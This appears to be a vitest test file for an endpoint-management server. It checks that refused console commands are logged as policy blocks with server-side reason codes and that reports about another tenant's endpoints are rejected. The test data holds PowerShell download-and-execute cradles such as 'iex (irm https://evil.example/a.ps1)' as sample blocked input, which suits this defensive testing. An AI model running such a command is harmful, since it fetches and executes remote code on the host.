import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startPgliteTestServer, type SignedIn, type TestServer } from './harness';
import { enrollAgent } from './agents-support';

describe('refusals reported by the console are audited like any block', () => {
  let s: TestServer;
  let technician: SignedIn;
  let otherTechnician: SignedIn;
  let support: SignedIn;
  let endpointId: string;
  const stateDir = mkdtempSync(path.join(os.tmpdir(), 'bulwark-refusal-agent-'));

  beforeAll(async () => {
    s = await startPgliteTestServer();
    const admin = await s.signIn(await s.createPlatformAdmin());
    const tenantId = await s.createTenant(admin);
    const otherTenant = await s.createTenant(admin);
    technician = await s.signIn(await s.createUser(admin, { role: 'technician', tenantId }));
    otherTechnician = await s.signIn(await s.createUser(admin, { role: 'technician', tenantId: otherTenant }));
    support = await s.signIn(await s.createUser(admin, { role: 'support' }));
    const token = await s.request('POST', '/api/v1/enroll-tokens', { token: admin.token, body: { name: 'refusals', tenantId } });
    expect(token.status).toBe(201);
    const enrolled = await enrollAgent(s.agentUrl, token.body.secret as string, stateDir);
    expect(enrolled.code).toBe(0);
    endpointId = (JSON.parse(readFileSync(path.join(stateDir, 'agent.json'), 'utf8')) as { endpointId: string }).endpointId;
  }, 90_000);

  afterAll(async () => {
    await s?.close();
    rmSync(stateDir, { recursive: true, force: true });
  });

  const report = (session: SignedIn, body: Record<string, unknown>) =>
    s.request('POST', '/api/v1/audit/console-refusals', { token: session.token, body: { endpointId, kind: 'terminal_line', ...body } });

  it('records a refused cradle with the server’s own reasons, for support to see', async () => {
    const text = 'iex (irm https://evil.example/a.ps1)';
    const reported = await report(technician, { text, shell: 'powershell', reasonCodes: ['download_execute'] });
    expect(reported.status).toBe(201);
    expect(reported.body.serverAgrees).toBe(true);
    const logged = await s.request('GET', `/api/v1/audit/script-logs/${reported.body.scriptLogId}`, { token: support.token });
    expect(logged.status).toBe(200);
    expect(logged.body).toMatchObject({ decision: 'block', wasBlockedBySecurityPolicy: true, endpointId });
    expect(logged.body.reasonCodes).toContain('download_execute');
  });

  it('records a refusal that rests on the console’s session history with the console’s codes', async () => {
    // Alone, `iex (irm $u)` has no destination; the console blocked it because an earlier line set $u.
    const reported = await report(technician, {
      text: 'Write-Output $u',
      shell: 'powershell',
      reasonCodes: ['download_execute', 'not_a_code'],
    });
    expect(reported.status).toBe(201);
    expect(reported.body.serverAgrees).toBe(false);
    const logged = await s.request('GET', `/api/v1/audit/script-logs/${reported.body.scriptLogId}`, { token: support.token });
    expect(logged.body.reasonCodes).toEqual(['download_execute']);
    expect(logged.body.decision).toBe('block');
  });

  it('refuses reports about another tenant’s endpoint and malformed reports', async () => {
    const foreign = await report(otherTechnician, { text: 'iex (irm https://x.example)', shell: 'powershell', reasonCodes: [] });
    expect(foreign.status).toBe(404);
    const malformed = await report(technician, { text: '', shell: 'fish', reasonCodes: [] });
    expect(malformed.status).toBe(400);
    expect(Object.keys(malformed.body.error.fields as object)).toEqual(expect.arrayContaining(['text', 'shell']));
  });
});
